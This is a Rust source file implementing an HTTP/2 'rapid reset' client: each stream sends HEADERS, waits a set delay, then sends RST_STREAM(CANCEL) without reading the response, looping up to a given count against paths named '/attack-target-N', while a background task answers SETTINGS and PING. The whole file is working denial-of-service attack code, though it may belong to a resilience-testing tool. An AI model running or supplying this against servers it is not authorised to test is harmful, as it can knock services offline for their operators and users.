//! Protocol-level rapid reset over a prior-knowledge HTTP/2 connection.
//!
//! A [`ResetConnection`] owns one TCP connection. For each logical stream it
//! sends a HEADERS frame, waits `reset_delay`, then sends RST_STREAM(CANCEL)
//! without ever reading the response. A background reader answers SETTINGS
//! and PING, counts server-side resets, and marks the connection closed on
//! GOAWAY or EOF. The reader is aborted when the connection is dropped.

use crate::engine::target::Target;
use crate::error::StreamError;
use crate::parser::h2frame::{
    decode_frame_header, encode_headers, encode_ping_ack, encode_request_block, encode_rst_stream,
    encode_settings, encode_settings_ack, goaway_error_code, FrameType, DEFAULT_MAX_FRAME_SIZE,
    ERROR_CANCEL, FLAG_ACK, FRAME_HEADER_LEN, MAX_STREAM_ID, PREFACE, SETTINGS_ENABLE_PUSH,
};
use bytes::{Bytes, BytesMut};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::TcpStream;
use tokio::sync::mpsc;
use tokio::task::JoinHandle;
use tokio::time::{sleep, timeout};
use tokio_util::sync::CancellationToken;
use tracing::{debug, warn};

/// Client-initiated stream ids: odd, strictly increasing, never reused on a
/// connection.
#[derive(Debug)]
pub struct StreamIdAllocator {
    next: u32,
    last_sent: u32,
}

impl Default for StreamIdAllocator {
    fn default() -> Self {
        Self::new()
    }
}

impl StreamIdAllocator {
    pub fn new() -> Self {
        Self {
            next: 1,
            last_sent: 0,
        }
    }

    pub fn allocate(&mut self) -> Result<u32, StreamError> {
        if self.next > MAX_STREAM_ID {
            return Err(StreamError::StreamIdExhausted);
        }
        let id = self.next;
        self.next += 2;
        Ok(id)
    }

    /// Records `id` as sent. Any id not above the last one sent is a reuse.
    pub fn claim(&mut self, id: u32) -> Result<(), StreamError> {
        if id <= self.last_sent {
            return Err(StreamError::StreamIdReuse {
                id,
                last: self.last_sent,
            });
        }
        self.last_sent = id;
        if id >= self.next {
            self.next = id.saturating_add(2);
        }
        Ok(())
    }

    pub fn last_sent(&self) -> u32 {
        self.last_sent
    }
}

pub struct ResetConnection {
    writer: OwnedWriteHalf,
    ids: StreamIdAllocator,
    authority: String,
    control: mpsc::UnboundedReceiver<Bytes>,
    closed: CancellationToken,
    server_resets: Arc<AtomicU64>,
    reader: JoinHandle<()>,
    io_timeout: Duration,
}

impl ResetConnection {
    /// Connects and performs the client handshake (preface + SETTINGS).
    pub async fn connect(target: &Target, io_timeout: Duration) -> Result<Self, StreamError> {
        let authority = target.authority();
        let tcp = timeout(io_timeout, TcpStream::connect(&authority))
            .await
            .map_err(|_| StreamError::Timeout("connect"))??;
        tcp.set_nodelay(true)?;

        let (read, writer) = tcp.into_split();
        let (control_tx, control) = mpsc::unbounded_channel();
        let closed = CancellationToken::new();
        let server_resets = Arc::new(AtomicU64::new(0));
        let reader = tokio::spawn(read_frames(
            read,
            control_tx,
            closed.clone(),
            Arc::clone(&server_resets),
        ));

        let mut conn = Self {
            writer,
            ids: StreamIdAllocator::new(),
            authority,
            control,
            closed,
            server_resets,
            reader,
            io_timeout,
        };

        let mut handshake = BytesMut::with_capacity(PREFACE.len() + 15);
        handshake.extend_from_slice(PREFACE);
        encode_settings(&mut handshake, &[(SETTINGS_ENABLE_PUSH, 0)]);
        conn.write(&handshake, "handshake").await?;
        debug!(authority = %conn.authority, "HTTP/2 handshake sent");
        Ok(conn)
    }

    pub fn is_closed(&self) -> bool {
        self.closed.is_cancelled()
    }

    /// RST_STREAM frames received from the server so far.
    pub fn server_resets(&self) -> u64 {
        self.server_resets.load(Ordering::SeqCst)
    }

    pub fn last_stream_id(&self) -> u32 {
        self.ids.last_sent()
    }

    async fn write(&mut self, bytes: &[u8], what: &'static str) -> Result<(), StreamError> {
        timeout(self.io_timeout, self.writer.write_all(bytes))
            .await
            .map_err(|_| StreamError::Timeout(what))??;
        Ok(())
    }

    /// Flushes acknowledgements queued by the reader.
    async fn flush_control(&mut self) -> Result<(), StreamError> {
        while let Ok(frame) = self.control.try_recv() {
            self.write(&frame, "control frame").await?;
        }
        Ok(())
    }

    /// Sends HEADERS on a freshly allocated stream and returns its id.
    pub async fn open_stream(&mut self, path: &str, user_agent: Option<&str>) -> Result<u32, StreamError> {
        let id = self.ids.allocate()?;
        self.send_headers(id, path, user_agent).await?;
        Ok(id)
    }

    /// Sends HEADERS on an explicit stream id. Fails fast, before writing
    /// anything, if the id does not advance past the last one sent.
    pub async fn send_headers(&mut self, id: u32, path: &str, user_agent: Option<&str>) -> Result<(), StreamError> {
        if self.is_closed() {
            return Err(StreamError::ConnectionClosed);
        }
        self.ids.claim(id)?;
        let block = encode_request_block(&self.authority, path, user_agent);
        let mut frame = BytesMut::with_capacity(FRAME_HEADER_LEN + block.len());
        encode_headers(&mut frame, id, &block, true);
        self.write(&frame, "headers").await
    }

    pub async fn reset_stream(&mut self, id: u32) -> Result<(), StreamError> {
        let mut frame = BytesMut::with_capacity(FRAME_HEADER_LEN + 4);
        encode_rst_stream(&mut frame, id, ERROR_CANCEL);
        self.write(&frame, "rst_stream").await
    }

    /// Opens and resets up to `count` streams. `on_reset` runs after each
    /// RST_STREAM is written.
    ///
    /// Stop checkpoint: top of each stream iteration. A stream already opened
    /// is always reset before the loop exits.
    pub async fn run_streams<F>(
        &mut self,
        count: u64,
        reset_delay: Duration,
        user_agent: Option<&str>,
        stop: &CancellationToken,
        mut on_reset: F,
    ) -> Result<u64, StreamError>
    where
        F: FnMut(u32),
    {
        let mut reset = 0;
        for i in 0..count {
            if stop.is_cancelled() || self.is_closed() {
                break;
            }
            self.flush_control().await?;

            let path = format!("/attack-target-{}", i);
            let id = self.open_stream(&path, user_agent).await?;
            sleep(reset_delay).await;
            self.reset_stream(id).await?;

            reset += 1;
            on_reset(id);
        }
        Ok(reset)
    }

    pub async fn close(mut self) {
        let _ = self.flush_control().await;
        let _ = timeout(self.io_timeout, self.writer.shutdown()).await;
    }
}

impl Drop for ResetConnection {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

async fn read_frames(
    mut read: OwnedReadHalf,
    control: mpsc::UnboundedSender<Bytes>,
    closed: CancellationToken,
    server_resets: Arc<AtomicU64>,
) {
    let mut header = [0u8; FRAME_HEADER_LEN];
    loop {
        if read.read_exact(&mut header).await.is_err() {
            break;
        }
        let head = match decode_frame_header(&header) {
            Ok(h) => h,
            Err(_) => break,
        };
        if head.length > DEFAULT_MAX_FRAME_SIZE {
            warn!(length = head.length, "Oversized frame from server");
            break;
        }
        let mut payload = vec![0u8; head.length];
        if read.read_exact(&mut payload).await.is_err() {
            break;
        }

        match head.kind {
            FrameType::Settings if head.flags & FLAG_ACK == 0 => {
                let mut ack = BytesMut::with_capacity(FRAME_HEADER_LEN);
                encode_settings_ack(&mut ack);
                let _ = control.send(ack.freeze());
            }
            FrameType::Ping if head.flags & FLAG_ACK == 0 => {
                if let Ok(data) = <[u8; 8]>::try_from(payload.as_slice()) {
                    let mut ack = BytesMut::with_capacity(FRAME_HEADER_LEN + 8);
                    encode_ping_ack(&mut ack, &data);
                    let _ = control.send(ack.freeze());
                }
            }
            FrameType::RstStream => {
                server_resets.fetch_add(1, Ordering::SeqCst);
            }
            FrameType::GoAway => {
                debug!(error_code = ?goaway_error_code(&payload), "GOAWAY received");
                break;
            }
            _ => {}
        }
    }
    closed.cancel();
}
